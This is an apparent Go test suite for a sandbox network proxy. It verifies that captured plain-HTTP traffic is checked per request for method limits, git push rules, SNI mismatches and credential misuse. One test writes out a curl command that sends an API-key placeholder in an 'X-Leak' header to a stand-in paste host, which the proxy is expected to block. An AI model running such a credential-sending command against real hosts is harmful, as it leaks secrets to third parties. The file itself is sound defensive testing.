package test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// Plain HTTP on a captured connection (SPEC §6.6, issue 28 item 2): inside
// `execwrap run --network proxied` with every proxy variable unset, each
// request on a captured plain-HTTP connection is judged as the same
// client's explicit plain-HTTP request would be — limited mode's method
// guard, request rules, the credential broker — request by request on a
// keep-alive connection; TLS keeps CONNECT semantics (interception or
// mitm_required, the SNI check) and other protocols stay opaque tunnels.

// keepAlivePy sends a GET and then a POST on ONE connection to
// argv[1]:argv[2] and prints each answer's status and body on a line.
const keepAlivePy = `import socket,sys
host, port = sys.argv[1], int(sys.argv[2])
s = socket.create_connection((host, port), timeout=10)
f = s.makefile("rb")
def exchange(req):
    s.sendall(req)
    status = f.readline().split()[1].decode()
    n = 0
    while True:
        line = f.readline()
        if line in (b"\r\n", b"\n", b""):
            break
        k, _, v = line.decode().partition(":")
        if k.strip().lower() == "content-length":
            n = int(v.strip())
    print(status, f.read(n).decode().replace("\n", " "))
h = ("Host: %s:%d\r\n" % (host, port)).encode()
exchange(b"GET /hello HTTP/1.1\r\n" + h + b"\r\n")
exchange(b"POST /echo HTTP/1.1\r\n" + h + b"Content-Length: 4\r\n\r\nbody")
`

// sniPy opens a captured connection to argv[1]:argv[2] and starts TLS
// naming argv[3]; it prints "handshake ok" or the failure.
const sniPy = `import socket,ssl,sys
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    s = ctx.wrap_socket(socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10), server_hostname=sys.argv[3])
    print("handshake ok")
except Exception as e:
    print("handshake failed", type(e).__name__)
`

// writeScripts puts the Python probes and, when there is one, netproxy's
// MITM CA (ca.pem) in the sandbox's working directory (its /tmp is its own).
func writeScripts(t *testing.T, dir string, p *Proxy) {
	t.Helper()
	if ca, err := os.ReadFile(filepath.Join(p.Dir, "ca.pem")); err == nil {
		if err := os.WriteFile(filepath.Join(dir, "ca.pem"), ca, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for name, body := range map[string]string{"keepalive.py": keepAlivePy, "sni.py": sniPy} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// runSteps runs numbered shell steps in the sandbox with the proxy
// variables unset; step i fails with exit 20+i.
func runSteps(t *testing.T, p *Proxy, dir string, steps [][2]string) sbxResult {
	t.Helper()
	var script strings.Builder
	script.WriteString(unsetProxy)
	for i, s := range steps {
		fmt.Fprintf(&script, "( %s ) || { echo 'FAILED: %s' >&2; exit %d; }\n", s[1], s[0], 20+i)
	}
	env := append(p.Env(), "HOME="+dir)
	r, code, stderr := sbxRun(t, env, dir, "--control", p.Control, "--", "sh", "-c", script.String())
	if code != 0 || r.ExitCode != 0 {
		t.Fatalf("exit %d/%d: %s\nstderr: %s %s\nsignals %v\nnetproxy: %s", code, r.ExitCode, r.Stdout, r.Stderr, stderr, r.Sandbox.Signals, p.Output.String())
	}
	return r
}

func hasDenial(r sbxResult, host, reason string) bool {
	for _, d := range r.NetworkDenials {
		if d.Host == host && d.Reason == reason {
			return true
		}
	}
	return false
}

// TestSandboxCaptureHTTPLimited: limited mode, with and without an
// interceptor. A captured GET passes, a captured POST is refused (403
// method_not_allowed) and never reaches the upstream, also as the second
// request of one keep-alive connection; TLS is intercepted or refused as
// an explicit CONNECT is; a protocol that is neither is refused.
func TestSandboxCaptureHTTPLimited(t *testing.T) {
	for _, withMITM := range []bool{false, true} {
		name := "no-interceptor"
		if withMITM {
			name = "interceptor"
		}
		t.Run(name, func(t *testing.T) {
			plain := StartUpstream(t, false)
			secure := StartUpstream(t, true)
			banner := startBannerOn(t, "127.0.0.1:0")
			cfg := StdConfig()
			cfg.Mode = "limited"
			cfg.Domains = append(cfg.Domains, [2]string{"ssh.test", "allow"})
			cfg.Hosts["ssh.test"] = []string{"127.0.0.1"}
			if withMITM {
				cfg.Extra = rulesMITM
			}
			p := WriteProxyConfig(t, cfg)
			if withMITM {
				writeMITMFiles(t, p.Dir, secure)
			}
			p.Start(t)
			dir := sbxDir(t)
			writeScripts(t, dir, p)
			tlsStep := [2]string{"TLS in limited mode without an interceptor is refused",
				fmt.Sprintf(`curl -sSk -m 10 --noproxy '*' %s && exit 1; exit 0`, secure.URL("up.test", "/hello"))}
			if withMITM {
				tlsStep = [2]string{"TLS in limited mode is intercepted",
					fmt.Sprintf(`curl -sS -m 10 --cacert ca.pem --noproxy '*' %s | grep -qx %q`, secure.URL("up.test", "/hello"), Hello)}
			}
			r := runSteps(t, p, dir, [][2]string{
				{"captured GET passes", fmt.Sprintf(`curl -sS -m 10 --noproxy '*' %s | grep -qx %q`, plain.URL("up.test", "/hello"), Hello)},
				{"captured POST is refused", fmt.Sprintf(`code=$(curl -s -m 10 --noproxy '*' -o post.out -w '%%{http_code}' -X POST -d x %s); [ "$code" = 403 ] && grep -q '"reason":"method_not_allowed"' post.out`, plain.URL("up.test", "/echo"))},
				{"keep-alive: GET passes, then POST refused", fmt.Sprintf(`python3 keepalive.py up.test %d > ka.out; cat ka.out >&2; head -1 ka.out | grep -qx '200 %s' && sed -n 2p ka.out | grep -q '^403 .*method_not_allowed'`, plain.Port, Hello)},
				tlsStep,
				{"an opaque protocol is refused in limited mode", fmt.Sprintf(`printf 'hi\n' | timeout 20 nc ssh.test %d > nc.out; grep -q SSH nc.out && exit 1; exit 0`, banner)},
			})
			if n := plain.Hits(); n != 2 {
				t.Errorf("plain upstream hits %d, want 2 (the two GETs; no POST)", n)
			}
			if !hasDenial(r, "up.test", "method_not_allowed") {
				t.Errorf("network_denials lack up.test method_not_allowed: %+v", r.NetworkDenials)
			}
			if !withMITM && !hasDenial(r, "up.test", "mitm_required") {
				t.Errorf("network_denials lack the TLS tunnel's mitm_required: %+v", r.NetworkDenials)
			}
			// The plain-HTTP tunnel itself is no denial: no mitm_required for it.
			for _, l := range sbxAuditLines(t, p, "up.test") {
				if l["execution_id"] != r.ExecutionID {
					t.Errorf("audit line execution_id %v, want %s", l["execution_id"], r.ExecutionID)
				}
				if l["reason"] == "mitm_required" && fmt.Sprint(l["port"]) == fmt.Sprint(plain.Port) {
					t.Errorf("the captured plain-HTTP connection was refused as a CONNECT: %v", l)
				}
			}
		})
	}
}

// TestSandboxCaptureHTTPRequestRules: full mode, a host with request rules
// (git read-only): a captured plain-HTTP push is refused with the rule's
// 403 JSON (request_denied) and the upstream never sees it, a fetch passes.
// On a host without rules every request of a keep-alive connection is
// judged and audited on its own; a server that speaks first still works;
// TLS keeps the SNI check.
func TestSandboxCaptureHTTPRequestRules(t *testing.T) {
	plain := StartUpstream(t, false)
	secure := StartUpstream(t, true)
	banner := startBannerOn(t, "127.0.0.1:0")
	cfg := StdConfig()
	cfg.Extra = rulesMITM + gitRulesTOML("up.test")
	p := WriteProxyConfig(t, cfg)
	writeMITMFiles(t, p.Dir, secure)
	p.Start(t)
	dir := sbxDir(t)
	writeScripts(t, dir, p)
	r := runSteps(t, p, dir, [][2]string{
		{"a push over captured plain HTTP is refused by the rule", fmt.Sprintf(`code=$(curl -s -m 10 --noproxy '*' -o push.out -w '%%{http_code}' -X POST -d x %s); cat push.out >&2; [ "$code" = 403 ] && grep -q '"reason":"request_denied"' push.out && grep -q 'not push' push.out`, plain.URL("up.test", "/o/r.git/git-receive-pack"))},
		{"a fetch passes", fmt.Sprintf(`curl -sS -m 10 --noproxy '*' -X POST -d x %s | grep -qx 'upstream POST /o/r.git/git-upload-pack'`, plain.URL("up.test", "/o/r.git/git-upload-pack"))},
		{"TLS to the rules host is intercepted", fmt.Sprintf(`curl -sS -m 10 --cacert ca.pem --noproxy '*' %s | grep -qx %q`, secure.URL("up.test", "/hello"), Hello)},
		{"keep-alive on a host without rules: both pass", fmt.Sprintf(`python3 keepalive.py closed.test %d > ka.out; cat ka.out >&2; head -1 ka.out | grep -qx '200 %s' && sed -n 2p ka.out | grep -qx '200 body'`, plain.Port, Hello)},
		{"a server that speaks first", fmt.Sprintf(`printf 'hi\n' | timeout 10 nc closed.test %d | tr -d '\r' | grep -qx 'SSH-2.0-capture-e2e'`, banner)},
		{"TLS naming another host is closed (SNI check)", fmt.Sprintf(`python3 sni.py closed.test %d other.test | grep -q 'handshake failed'`, secure.Port)},
		{"TLS naming the host passes", fmt.Sprintf(`python3 sni.py closed.test %d closed.test | grep -q 'handshake ok'`, secure.Port)},
	})
	// Hits: upload-pack, the keep-alive GET and POST; TLS: the intercepted
	// GET (the SNI probes end before any request).
	if n := plain.Hits(); n != 3 {
		t.Errorf("plain upstream hits %d, want 3 (no push)", n)
	}
	if !hasDenial(r, "up.test", "request_denied") {
		t.Errorf("network_denials lack up.test request_denied: %+v", r.NetworkDenials)
	}
	if !hasDenial(r, "closed.test", "sni_mismatch") {
		t.Errorf("network_denials lack closed.test sni_mismatch: %+v", r.NetworkDenials)
	}
	// Each request of the keep-alive connection has its own decision line.
	methods := map[string]bool{}
	for _, l := range sbxAuditLines(t, p, "closed.test") {
		if l["protocol"] == "http" {
			methods[fmt.Sprint(l["method"])] = true
		}
	}
	if !methods["GET"] || !methods["POST"] {
		t.Errorf("closed.test plain-HTTP decisions by method %v, want GET and POST each judged", methods)
	}
}

// TestSandboxCaptureHTTPCredentials: a credential placeholder sent in a
// header over captured plain HTTP to a host that is not the credential's
// is refused (credential_misuse) and that host sees nothing.
func TestSandboxCaptureHTTPCredentials(t *testing.T) {
	f := startCredFixture(t)
	dir := sbxDir(t)
	r := runSteps(t, f.p, dir, [][2]string{
		{"placeholder to another host is refused", fmt.Sprintf(`case "$OPENAI_API_KEY" in sk-*) ;; *) exit 1;; esac
code=$(curl -s -m 10 --noproxy '*' -o leak.out -w '%%{http_code}' -H "X-Leak: $OPENAI_API_KEY" %s); cat leak.out >&2; [ "$code" = 403 ] && grep -q '"reason":"credential_misuse"' leak.out`, f.plain.URL("paste.test", "/hello"))},
		{"the same without the placeholder passes", fmt.Sprintf(`curl -sS -m 10 --noproxy '*' %s | grep -qx %q`, f.plain.URL("paste.test", "/hello"), Hello)},
	})
	if n := f.plain.Hits(); n != 1 {
		t.Errorf("paste.test saw %d requests, want 1 (none with the placeholder)", n)
	}
	if !hasDenial(r, "paste.test", "credential_misuse") {
		t.Errorf("network_denials lack paste.test credential_misuse: %+v", r.NetworkDenials)
	}
}

// TestCaptureHeaderExplicitClient: a client that sends the capture header
// on its own CONNECT gets no fewer checks than plain HTTP: in limited mode
// a POST inside is refused, a GET passes; an opaque stream is refused
// with the CONNECT's own reason; without the header nothing changes.
func TestCaptureHeaderExplicitClient(t *testing.T) {
	plain := StartUpstream(t, false)
	cfg := StdConfig()
	cfg.Mode = "limited"
	p := StartProxy(t, cfg)
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("netproxy:\n%s", p.Output.String())
		}
	})
	connect := func(header string) (net.Conn, *bufio.Reader, string) {
		c, err := net.DialTimeout("tcp", p.HTTP, 5*time.Second)
		if err != nil {
			t.Fatal(err)
		}
		c.SetDeadline(time.Now().Add(20 * time.Second))
		fmt.Fprintf(c, "CONNECT up.test:%d HTTP/1.1\r\nHost: up.test:%d\r\n%s\r\n", plain.Port, plain.Port, header)
		br := bufio.NewReader(c)
		status, _ := br.ReadString('\n')
		for {
			l, err := br.ReadString('\n')
			if err != nil || l == "\r\n" {
				break
			}
		}
		return c, br, status
	}
	// Without the header: limited mode refuses the CONNECT as before.
	c, _, status := connect("")
	c.Close()
	if !strings.Contains(status, " 403 ") {
		t.Fatalf("limited CONNECT without the header: %q, want 403 (mitm_required)", status)
	}
	c, br, status := connect("X-Netproxy-Capture: 1\r\n")
	defer c.Close()
	if !strings.Contains(status, " 200 ") {
		t.Fatalf("captured CONNECT: %q", status)
	}
	host := fmt.Sprintf("Host: up.test:%d\r\n", plain.Port)
	fmt.Fprintf(c, "GET /hello HTTP/1.1\r\n%s\r\n", host)
	resp := readResponse(t, br)
	if !strings.HasPrefix(resp, "HTTP/1.1 200") || !strings.HasSuffix(resp, Hello) {
		t.Fatalf("GET inside: %q", resp)
	}
	fmt.Fprintf(c, "POST /echo HTTP/1.1\r\n%sContent-Length: 1\r\n\r\nx", host)
	if resp := readResponse(t, br); !strings.HasPrefix(resp, "HTTP/1.1 403") || !strings.Contains(resp, "method_not_allowed") {
		t.Fatalf("POST inside: %q", resp)
	}
	// A Host naming another host is refused, not forwarded there (a new
	// connection: the refused POST with a body closed that one).
	c3, br3, _ := connect("X-Netproxy-Capture: 1\r\n")
	defer c3.Close()
	fmt.Fprintf(c3, "GET /hello HTTP/1.1\r\nHost: other.test:%d\r\n\r\n", plain.Port)
	if resp := readResponse(t, br3); !strings.HasPrefix(resp, "HTTP/1.1 400") {
		t.Fatalf("GET with another Host inside: %q", resp)
	}
	if plain.Hits() != 1 {
		t.Fatalf("upstream hits %d, want 1", plain.Hits())
	}
	// An opaque stream on a limited-mode captured CONNECT: closed, audited
	// as the CONNECT's mitm_required.
	c2, br2, status := connect("X-Netproxy-Capture: 1\r\n")
	defer c2.Close()
	if !strings.Contains(status, " 200 ") {
		t.Fatalf("captured CONNECT: %q", status)
	}
	c2.Write([]byte("\x00\x01binary"))
	if b, err := br2.ReadByte(); err == nil {
		t.Fatalf("an opaque stream was relayed (read %q)", b)
	}
	waitFor(t, 5*time.Second, func() bool {
		for _, l := range auditLines(t, p, "network_decision") {
			if l["host"] == "up.test" && l["reason"] == "mitm_required" {
				return true
			}
		}
		return false
	}, "the opaque captured stream audited as mitm_required")
}

// readResponse reads one HTTP/1.1 answer with a Content-Length body.
func readResponse(t *testing.T, br *bufio.Reader) string {
	t.Helper()
	var b strings.Builder
	n := 0
	for {
		l, err := br.ReadString('\n')
		if err != nil {
			t.Fatalf("reading an answer: %v (so far %q)", err, b.String()) // netproxy's log is in the test output
		}
		b.WriteString(l)
		if k, v, ok := strings.Cut(l, ":"); ok && strings.EqualFold(k, "Content-Length") {
			fmt.Sscan(strings.TrimSpace(v), &n)
		}
		if l == "\r\n" {
			break
		}
	}
	body := make([]byte, n)
	if _, err := io.ReadFull(br, body); err != nil {
		t.Fatal(err)
	}
	return b.String() + string(body)
}
